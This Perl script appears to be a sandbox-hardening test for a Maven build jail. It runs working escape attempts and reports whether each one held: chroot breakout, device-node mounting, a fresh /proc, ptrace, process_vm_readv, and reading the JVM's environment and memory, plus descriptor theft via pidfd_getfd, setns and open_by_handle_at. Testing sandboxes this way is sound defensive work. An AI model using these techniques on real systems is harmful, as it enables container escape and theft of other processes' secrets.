# Tries the known ways out of a sandbox and prints a line each. Only what perl itself has is used.
# Arguments: a file of the machine, the pid of Maven's JVM, a disk's major and minor number, the machine's architecture.
my ($marker, @numbers) = @ARGV;
my $machine = pop @numbers;
# A text would be taken for a pointer by syscall.
my ($jvm, $disk_major, $disk_minor) = map { $_ + 0 } @numbers;
my $arm = $machine eq 'aarch64';
my %number = $arm
    ? (ptrace => 117, process_vm_readv => 270, pidfd_open => 434, pidfd_getfd => 438, unshare => 97,
       mknodat => 33, mount => 40, open_by_handle_at => 265, setns => 268)
    : (ptrace => 101, process_vm_readv => 310, pidfd_open => 434, pidfd_getfd => 438, unshare => 272,
       mknodat => 259, mount => 165, open_by_handle_at => 304, setns => 308);
my $AT_FDCWD = -100;
my $launcher = getppid();

my $escapes = 0;
sub say_result { my ($trial, $escaped) = @_; $escapes++ if $escaped; print "$trial: ", ($escaped ? 'ESCAPED' : 'held'), "\n"; }
sub in_child { # so that a root directory that was changed, or a user namespace, is gone with it
    my ($trial, $code) = @_;
    my $pid = fork();
    if ($pid == 0) { exit($code->() ? 1 : 0); }
    waitpid($pid, 0);
    say_result($trial, $? != 0);
}

sub climb {
    opendir(my $root, '/') or return 0;
    mkdir('/tmp/jail');
    chroot('/tmp/jail') or return 0;
    chdir($root) or return 0;
    chdir('..') for 1 .. 100;
    chroot('.') or return 0;
    return -e $marker;
}
in_child('second chroot', \&climb);
in_child('second chroot in a user namespace', sub {
    syscall($number{unshare}, 0x10000000) == 0 or return 0;
    return climb();
});
in_child('mount of the disk', sub {
    my $node = "/tmp/disk";
    syscall($number{mknodat}, $AT_FDCWD, $node, 060600, $disk_major << 8 | $disk_minor);
    mkdir('/tmp/mnt');
    my $type = 'ext4';
    my $target = '/tmp/mnt';
    return syscall($number{mount}, $node, $target, $type, 1, 0) == 0;
});
in_child('node of a disk', sub {
    my $node = "/tmp/disk2";
    return syscall($number{mknodat}, $AT_FDCWD, $node, 060600, $disk_major << 8 | $disk_minor) == 0;
});
in_child('environment of the JVM', sub {
    open(my $file, '<', "/proc/$jvm/environ") or return 0;
    return sysread($file, my $data, 512) > 0;
});
in_child('environment and memory of the JVM by a second chroot', sub {
    climb();
    for my $name ('environ', 'mem', 'maps') {
        open(my $file, '<', "/proc/$jvm/$name") and return 1;
    }
    return 0;
});
in_child('a new /proc', sub {
    mkdir('/tmp/proc');
    my ($type, $target) = ('proc', '/tmp/proc');
    syscall($number{mount}, $type, $target, $type, 0, 0) == 0 or return 0;
    return -e "/tmp/proc/$jvm/root$marker";
});
in_child('root directory of another process', sub {
    for my $pid (1 .. 40000) { return 1 if -e "/proc/$pid/root$marker"; }
    return 0;
});
in_child('ptrace of the JVM', sub { return syscall($number{ptrace}, 16, $jvm, 0, 0) == 0; });
in_child('ptrace of the launcher', sub {
    return syscall($number{ptrace}, 16, $launcher, 0, 0) == 0;
});
in_child('memory of the JVM', sub {
    my $buffer = ' ' x 16;
    my $local = pack('pQ', $buffer, 16);
    my $remote = pack('QQ', 0x400000, 16);
    # A bad address (14) is found out only after the permission was checked.
    return syscall($number{process_vm_readv}, $jvm, $local, 1, $remote, 1, 0) > 0 || $! == 14;
});
in_child('descriptor of the JVM', sub {
    my $pidfd = syscall($number{pidfd_open}, $jvm, 0);
    $pidfd >= 0 or return 0;
    for my $fd (0 .. 20) { return 1 if syscall($number{pidfd_getfd}, $pidfd, $fd, 0) >= 0; }
    return 0;
});
in_child('namespaces of the JVM', sub {
    my $pidfd = syscall($number{pidfd_open}, $jvm, 0);
    return $pidfd >= 0 && syscall($number{setns}, $pidfd, 0x00020000) == 0;
});
in_child('file by its handle', sub {
    opendir(my $root, '/') or return 0;
    my $handle = pack('IiQ', 8, 1, 2); # inode 2 is the root of most file systems
    return syscall($number{open_by_handle_at}, fileno($root), $handle, 0) >= 0;
});
{
    # perl keeps -e scripts nowhere, so all that is open above 2 was handed down.
    my @kept = grep { open(my $file, '<&=', $_) && do { binmode($file); 1 } } 3 .. 1023;
    say_result('kept descriptor', scalar @kept);
}
in_child('environment', sub { return scalar grep { !/^(PATH|LD_LIBRARY_PATH)$/ } keys %ENV; });
exit($escapes ? 1 : 0);
